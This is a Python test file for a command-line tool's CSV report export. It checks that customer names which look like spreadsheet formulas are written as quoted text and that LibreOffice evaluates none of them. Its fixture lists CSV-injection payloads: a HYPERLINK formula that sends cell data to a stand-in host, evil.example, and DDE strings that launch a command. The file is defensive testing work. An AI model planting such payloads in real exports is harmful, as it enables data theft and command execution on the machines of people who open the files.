"""Every CSV unmo writes, opened the way its reader opens it: Python's csv module and a real
spreadsheet (LibreOffice, headless). Text that looks like a formula stays text; numbers stay
numbers (issue 9, point 6)."""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import shutil
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from support_report import NOW, ZONE, build_dataset

from unmo_cli.spreadsheet import FORMULA_STARTS, csv_text, spreadsheet_cell

IN_CI = os.environ.get("CI") == "true"  # read at import: the test fixtures clear CI
SOURCE = Path(__file__).resolve().parents[1] / "unmo_cli"

HOSTILE_NAMES = {
    "alpha-games": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "beta-shop": "+1+cmd|' /C calc'!A0",
    "gamma-pay": "-2+3",
    "delta-fit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "golf-late": "\t=1+1",
    "echo-travel": "\r=1+2",
}


def _rename(names: dict[str, str]) -> None:
    from sqlalchemy import update

    from unmo_cli.db import open_database
    from unmo_cli.db.models import Customer
    from unmo_cli.workspace import load_workspace

    db = open_database(load_workspace())
    with db.session() as session:
        for slug, name in names.items():
            session.execute(update(Customer).where(Customer.slug == slug).values(name=name))
    db.dispose()


# Survey e-mails (sent at, answered at or None) per customer; the report's week is 2026-W46,
# 2026-11-09 05:00Z to 2026-11-16 05:00Z (America/New_York).
SURVEYS = {
    "alpha-games": [("2026-11-10 14:00", "2026-11-11 09:00"), ("2026-11-12 14:00", None),
                    ("2026-11-13 14:00", "2026-11-16 04:59")],
    "beta-shop": [("2026-11-14 14:00", "2026-11-16 05:00")],  # answered after the week's end
    "gamma-pay": [("2026-11-09 04:59", "2026-11-10 10:00")],  # sent the week before
    "delta-fit": [("2026-11-10 14:00", "2026-11-10 15:00")],
}


def _send_surveys(plan: dict[str, list[tuple[str, str | None]]]) -> None:
    """Survey invitations whose e-mail was sent, as `unmo survey send` records them, and their
    first answers; one invitation of each customer also has an e-mail that failed (not sent)."""
    from sqlalchemy import select

    from unmo_cli.db import open_database
    from unmo_cli.db.models import Customer, EmailSending, SurveyInvitation
    from unmo_cli.workspace import load_workspace

    def at(text: str | None) -> datetime | None:
        return None if text is None else datetime.fromisoformat(text)

    db = open_database(load_workspace())
    with db.session() as session:
        ids = dict(session.execute(select(Customer.slug, Customer.id)).all())
        for slug, sendings in plan.items():
            for n, (sent, answered) in enumerate([*sendings, ("2026-11-11 08:00", None)]):
                failed = n == len(sendings)
                sending = EmailSending(
                    customer_id=ids[slug], kind="survey", request_key=f"survey:{slug}-{n}",
                    message_id=f"<{slug}.{n}@example.com>", recipient_digest="0" * 64,
                    outcome="failed" if failed else "sent", requested_at=at(sent),
                    attempted_at=at(sent), sent_at=None if failed else at(sent))
                session.add(sending)
                session.flush()
                session.add(SurveyInvitation(
                    nonce=f"{slug}-{n}", customer_id=ids[slug], created_at=at(sent),
                    expires_at=datetime(2026, 12, 31), answers=0 if answered is None else 1,
                    first_answered_at=at(answered), answered_at=at(answered),
                    sending_id=sending.id))
    db.dispose()


@pytest.fixture
def hostile_csv(unmo, workspace: Path) -> Path:
    (workspace / "unmo.yaml").write_text(f"timezone: {ZONE}\n")
    build_dataset()
    _rename(HOSTILE_NAMES)
    _send_surveys(SURVEYS)
    target = workspace / "week.csv"
    ran = unmo("report", "weekly", "--format", "csv", "--output", str(target),
               env={"UNMO_NOW": NOW})
    assert ran.exit_code == 0, ran.stderr
    return target


def test_python_reads_formula_like_names_as_quoted_text(hostile_csv: Path):
    text = hostile_csv.read_bytes().decode()  # as bytes: a CR inside a cell is data
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    for slug, name in HOSTILE_NAMES.items():
        assert rows[slug]["name"] == "'" + name, slug
    # Figures are written as numbers, not quoted away: a spreadsheet can still sum them.
    assert rows["gamma-pay"]["mrr"] == "3000.50" and rows["beta-shop"]["nps"] == "-50"
    assert rows["alpha-games"]["health_status"] == "degraded"


def test_each_customer_row_has_its_survey_response_rate(hostile_csv: Path, unmo):
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(
        hostile_csv.read_bytes().decode(), newline=""))}
    figures = {slug: (row["surveys_sent"], row["surveys_answered"],
                      row["survey_response_rate_pct"]) for slug, row in rows.items()}
    assert figures == {
        "alpha-games": ("3", "2", "66.7"),  # answered a minute before the week's end counts
        "beta-shop": ("1", "0", "0.0"),     # answered at the week's end does not
        "gamma-pay": ("0", "0", ""),        # sent before the week: none sent in it
        "delta-fit": ("1", "1", "100.0"),
        "echo-travel": ("0", "0", ""), "golf-late": ("0", "0", ""),
    }
    # The customers' rows add up to the report's own figure, as the JSON gives it.
    ran = unmo("report", "weekly", "--json", env={"UNMO_NOW": NOW})
    assert ran.exit_code == 0, ran.stderr
    document = json.loads(ran.stdout)
    assert document["surveys"] == {"sent": 5, "answered": 3, "response_rate_pct": 60.0}
    assert {row["slug"]: (row["surveys_sent"], row["surveys_answered"],
                          row["survey_response_rate_pct"]) for row in document["portfolio"]} \
        == {slug: (int(sent), int(answered), float(rate) if rate else None)
            for slug, (sent, answered, rate) in figures.items()}


# --- the spreadsheet ---------------------------------------------------------------------------

_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def _soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


def _libreoffice_grid(csv_file: Path, tmp_path: Path) -> list[list[tuple]]:
    """Convert the CSV to .xlsx with LibreOffice Calc (UTF-8, comma, formulas evaluated, as a
    person double-clicking the file gets it) and read every cell back as (type, value, formula):
    type "s" is text, "n" a number; formula is the cell's formula if Calc made one."""
    office = _soffice()
    if office is None:
        if IN_CI:
            pytest.fail("LibreOffice (soffice) is missing; .ci/run installs "
                        "libreoffice-calc-nogui")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    out = tmp_path / "converted"
    # Tokens: separator 44 (,), quote 34 ("), charset 76 (UTF-8), from line 1, default column
    # formats, en-US, quoted fields not forced to text, special numbers detected, … and the
    # 13th, "evaluate formulas", on: the setting under which the unneutralised CSV ran formulas.
    ran = subprocess.run(
        [office, f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}", "--headless",
         "--norestore", "--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,-1,true",
         "--convert-to", "xlsx", "--outdir", str(out), str(csv_file)],
        capture_output=True, text=True, timeout=180, check=False)
    book = out / (csv_file.stem + ".xlsx")
    assert book.is_file(), ran.stdout + ran.stderr
    with zipfile.ZipFile(book) as archive:
        strings = [
            "".join(t.text or "" for t in si.iter(f"{{{_NS['x']}}}t"))
            for si in ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))]
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    grid: list[list[tuple]] = []
    for row in sheet.iter(f"{{{_NS['x']}}}row"):
        cells: list[tuple] = []
        for cell in row.iter(f"{{{_NS['x']}}}c"):
            column = _column_index(cell.get("r", ""))
            cells += [("empty", None, None)] * (column - len(cells))  # Calc omits empty cells
            kind = cell.get("t", "n")
            value = cell.findtext("x:v", default=None, namespaces=_NS)
            formula = cell.findtext("x:f", default=None, namespaces=_NS)
            if kind == "s" and value is not None:
                value = strings[int(value)]
            elif kind == "n" and value is not None:
                value = float(value)
            cells.append((kind, value, formula))
        grid.append(cells)
    return grid


def _column_index(reference: str) -> int:
    """"C7" → 2: the 0-based column of a cell reference."""
    index = 0
    for letter in reference.rstrip("0123456789"):
        index = index * 26 + ord(letter) - ord("A") + 1
    return index - 1


def _by_slug(grid: list[list[tuple]]) -> dict[str, dict[str, tuple]]:
    header = [cell[1] for cell in grid[0]]
    rows = [dict(zip(header, cells + [("empty", None, None)] * (len(header) - len(cells)),
                     strict=True)) for cells in grid[1:]]
    return {row["slug"][1]: row for row in rows}


@pytest.mark.slow
def test_libreoffice_evaluates_no_formula_and_keeps_numbers_numeric(hostile_csv: Path,
                                                                    tmp_path: Path):
    sheet = _by_slug(_libreoffice_grid(hostile_csv, tmp_path))
    assert set(sheet) == set(HOSTILE_NAMES)
    for slug, row in sheet.items():
        assert all(formula is None for _kind, _value, formula in row.values()), (slug, row)
        kind, value, _ = row["name"]
        # Calc shows the cell as written, apostrophe and all: text, never a computed value.
        # (XML has no lone CR: the xlsx file holds it as a line feed.)
        assert (kind, value) == ("s", "'" + HOSTILE_NAMES[slug].replace("\r", "\n")), row
    for column in ("events_per_day", "mrr", "responses", "health_checks", "surveys_sent",
                   "surveys_answered"):
        assert {row[column][0] for row in sheet.values()} == {"n"}, column
    # A rate is a number where there is one, an empty cell where none was sent.
    assert sheet["alpha-games"]["survey_response_rate_pct"][:2] == ("n", 66.7)
    assert sheet["beta-shop"]["survey_response_rate_pct"][:2] == ("n", 0.0)
    assert sheet["gamma-pay"]["survey_response_rate_pct"][0] == "empty"
    assert sheet["gamma-pay"]["mrr"][1] == 3000.5
    assert sheet["beta-shop"]["nps"][:2] == ("n", -50.0)  # a negative number stays a number
    assert sheet["beta-shop"]["satisfaction_pct"][:2] == ("n", 70.0)


@pytest.mark.slow
def test_the_demo_survey_export_opens_as_text_too(tmp_path: Path):
    from unmo_cli.services.demo import Response, survey_csv

    export = tmp_path / "survey.csv"
    export.write_text(survey_csv([
        Response("alpha-games", datetime(2026, 11, 10, 9, tzinfo=UTC), 9, -1 + 1, "other",
                 "=1+1 was the answer", "alph-1"),
        Response("beta-shop", datetime(2026, 11, 10, 10, tzinfo=UTC), 7, None, "support",
                 "-quick answers", "beta-1"),
    ]), encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(export.read_bytes().decode(), newline="")))
    assert [r["comment"] for r in rows] == ["'=1+1 was the answer", "'-quick answers"]
    assert [r["nps"] for r in rows] == ["0", ""]
    grid = _libreoffice_grid(export, tmp_path)
    assert all(formula is None for row in grid for _k, _v, formula in row)
    assert [row[1][:2] for row in grid[1:]] == [("n", 9.0), ("n", 7.0)]


# --- the rule, once -----------------------------------------------------------------------------


@given(st.text())
def test_no_text_cell_starts_like_a_formula(text: str):
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(number):
    assert spreadsheet_cell(number) == number
    parsed = next(csv.reader(io.StringIO(csv_text(["n"], [[number]])).readlines()[1:]))
    # The cell is the number's exact decimal text (an int past 2**53 is not a float's).
    assert (int(parsed[0]) if isinstance(number, int) else float(parsed[0])) == number


def test_every_csv_unmo_writes_goes_through_the_one_function():
    """No module but unmo_cli/spreadsheet.py makes a csv.writer or DictWriter."""
    offenders = []
    for path in SOURCE.rglob("*.py"):
        if path.name == "spreadsheet.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                offenders.append(f"{path.relative_to(SOURCE)}:{node.lineno}")
    assert offenders == []
